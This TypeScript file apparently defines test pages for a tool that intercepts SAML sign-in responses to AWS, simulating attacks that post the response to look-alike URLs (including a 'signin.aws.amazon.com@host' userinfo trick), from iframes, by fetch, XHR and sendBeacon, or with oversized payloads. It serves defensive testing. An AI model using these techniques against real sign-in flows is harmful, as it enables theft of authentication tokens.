import { html, page } from '../idp/page.ts';
import { ACS_URL } from '../saml-names.ts';
import { attack, raidWithAnswer } from './attack.ts';

const post = html`const post = (action, target = '', how = '') => {
      const form = Object.assign(document.createElement('form'), { method: 'post', action, target, enctype: how === 'multipart' ? 'multipart/form-data' : '' });
      const field = (name, value) => form.append(Object.assign(document.createElement('input'), { type: 'hidden', name, value }));
      field('SAMLResponse', answer);
      if (how === 'large') field('RelayState', 'A'.repeat(3_000_000));
      document.body.append(form);
      form.submit();
    };`;

/** Pages that post a response to the wrong place or in the wrong way. */
/** How a page may post its form. */
export const FORMS = ['plain', 'regional', 'large', 'hidden-referrer', 'new-tab', 'pop-up', 'redirected'] as const;

export const POSTING = {
  /** No attack: posts to AWS in each way that a company's page may, by the address's fragment. */
  'posts-as': {
    kind: 'page-with-answer',
    html: (samlResponse: string) =>
      page(
        'Signing in',
        html`<h1>Signing in</h1><script>const answer = '${samlResponse}';
    ${post}
    const how = location.hash.slice(1);
    const aws = '${ACS_URL}';
    if (how === 'hidden-referrer') document.head.append(Object.assign(document.createElement('meta'), { name: 'referrer', content: 'no-referrer' }));
    if (how === 'redirected') post('/attack/redirect-to?to=' + encodeURIComponent(aws));
    else if (how === 'pop-up') open(location.pathname + '#plain', 'aws', 'width=400,height=400');
    else post(how === 'regional' ? 'https://eu-central-1.signin.aws.amazon.com/saml/acs/SAMLSPABC' : aws, how === 'new-tab' ? '_blank' : '', how);
    </script>`,
      ),
  },
  /** Look-alike addresses of AWS's, on the top page, where the real one would be captured. The server reports the requests. */
  'post-to-look-alike-path': raidWithAnswer(
    'Posts to a look-alike',
    html`${post} post('/signin.aws.amazon.com/saml');`,
  ),
  'post-to-look-alike-user': raidWithAnswer(
    'Posts to a look-alike',
    html`${post} post('http://signin.aws.amazon.com@' + location.host + '/saml');`,
  ),
  'post-from-frame': raidWithAnswer(
    'Posts from a frame',
    html`${post}
    document.body.append(Object.assign(document.createElement('iframe'), { name: 'inside' }));
    post('${ACS_URL}', 'inside');
    const script = post.toString();
    document.body.append(Object.assign(document.createElement('iframe'), {
      srcdoc: '<body><script>const answer = "' + answer + '"; const post = ' + script + '; post("${ACS_URL}");<' + '/script></body>',
    }));
    await new Promise(resolve => setTimeout(resolve, 200));`,
  ),
  'post-by-script': raidWithAnswer(
    'Posts by a script',
    html`const body = new URLSearchParams({ SAMLResponse: answer });
    await take('an answer of AWS', () => fetch('${ACS_URL}', { method: 'POST', body, mode: 'no-cors' }));
    await take('an answer of AWS to a request', () => new Promise((resolve, refuse) => {
      const request = new XMLHttpRequest();
      Object.assign(request, { onload: resolve, onerror: refuse });
      request.open('POST', '${ACS_URL}');
      request.send(body);
    }));
    navigator.sendBeacon('${ACS_URL}', body);`,
  ),
  /** 20 MB in the response field: twice what Mai reads. */
  'huge-form': attack(
    'Posts too much',
    html`const form = Object.assign(document.createElement('form'), { method: 'post', action: '${ACS_URL}' });
    form.append(Object.assign(document.createElement('input'), { type: 'hidden', name: 'SAMLResponse', value: 'A'.repeat(20_000_000) }));
    document.body.append(form);
    form.submit();`,
  ),
  /** POSTs to AWS with one wrong property. */
  'posts-no-response': attack(
    'Moves on',
    html`const form = Object.assign(document.createElement('form'), { method: 'post', action: '${ACS_URL}' });
    document.body.append(form);
    form.submit();`,
  ),
} as const;
